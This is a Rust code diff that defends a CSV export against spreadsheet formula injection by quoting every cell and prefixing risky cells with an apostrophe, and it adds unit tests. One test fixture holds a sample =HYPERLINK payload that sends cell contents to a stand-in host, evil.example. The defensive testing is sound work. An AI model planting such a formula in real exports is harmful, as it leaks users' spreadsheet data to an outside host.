@@ -191,16 +191,94 @@ fn cell_text(v: Option<&Value>) -> String {
     }
 }
 
-/// Writes a table as CSV (quotes where needed, `\n` line ends).
+/// Writes a table as CSV for a spreadsheet (`\n` line ends), neutralising formula injection as
+/// OWASP's CSV-injection guidance recommends: every cell is quoted, and every cell, header
+/// included, that a spreadsheet would run as a formula gets a leading `'` ([`spreadsheet_safe`]).
+/// Input columns and model output alike: a dataset or a prompt-injected model can carry
+/// `=HYPERLINK(…)`. Only CSV is changed; JSONL and the page's table keep the text as it is.
 pub fn to_csv(table: &Table) -> String {
-    let mut writer = csv::WriterBuilder::new().from_writer(Vec::new());
+    let mut writer = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::Always)
+        .from_writer(Vec::new());
+    let safe = |cells: &[String]| -> Vec<String> {
+        cells
+            .iter()
+            .map(|c| spreadsheet_safe(c).into_owned())
+            .collect()
+    };
     writer
-        .write_record(&table.columns)
+        .write_record(safe(&table.columns))
         .expect("writing to memory");
     for row in &table.rows {
-        writer.write_record(row).expect("writing to memory");
+        writer.write_record(safe(row)).expect("writing to memory");
     }
     String::from_utf8(writer.into_inner().expect("flush to memory")).expect("input was UTF-8")
+}
+
+/// `cell` with a `'` in front when it starts with what Excel, LibreOffice or Google Sheets read
+/// as a formula (`=`, `+`, `-`, `@`, tab, carriage return: OWASP's list), so it is shown as text.
+/// A negative number such as `-3` becomes `'-3` too: the price of never running a formula.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// CSV exports and formula injection (issue 11, item 10). A module of its own, beside the code
+/// it tests.
+#[cfg(test)]
+mod formula_injection {
+    use super::*;
+
+    #[test]
+    fn every_cell_that_starts_a_formula_is_prefixed_and_quoted() {
+        let evil = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let t = Table {
+            columns: vec!["=text".into(), "labels".into()],
+            rows: evil
+                .iter()
+                .map(|e| vec![(*e).to_owned(), (*e).to_owned()])
+                .collect(),
+        };
+        let out = to_csv(&t);
+        assert!(out.starts_with("\"'=text\",\"labels\"\n"), "{out}");
+        assert!(
+            out.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+            "{out}"
+        );
+        let back = parse(out.as_bytes(), Format::Csv).unwrap();
+        assert_eq!(back.columns, vec!["'=text", "labels"]);
+        for (row, e) in back.rows.iter().zip(evil) {
+            assert_eq!(row, &vec![format!("'{e}"), format!("'{e}")]);
+        }
+    }
+
+    #[test]
+    fn other_cells_are_kept_as_they_are_only_quoted() {
+        let t = Table {
+            columns: vec!["text".into(), "labels".into()],
+            rows: vec![
+                vec!["a=b".into(), "".into()],
+                vec![" =1".into(), "positive; negative".into()],
+                vec!["'quoted".into(), "x-y".into()],
+            ],
+        };
+        let out = to_csv(&t);
+        assert_eq!(
+            out,
+            "\"text\",\"labels\"\n\"a=b\",\"\"\n\" =1\",\"positive; negative\"\n\"'quoted\",\"x-y\"\n"
+        );
+        assert_eq!(parse(out.as_bytes(), Format::Csv).unwrap(), t);
+    }
 }
 
 #[cfg(test)]
